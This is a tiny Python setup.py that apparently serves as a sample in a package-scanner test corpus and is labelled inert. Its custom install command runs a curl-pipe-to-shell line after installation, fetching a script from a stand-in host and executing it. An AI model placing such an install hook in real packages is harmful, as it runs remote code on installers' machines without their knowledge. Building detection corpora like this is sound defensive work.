# pkgguard corpus 001 (install-hook), modelled on [bertus]; inert, never run.
from setuptools import setup
from setuptools.command.install import install
import os


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://cdn.example/i.sh | sh")


setup(name="pkg", version="2.0", cmdclass={"install": PostInstall})
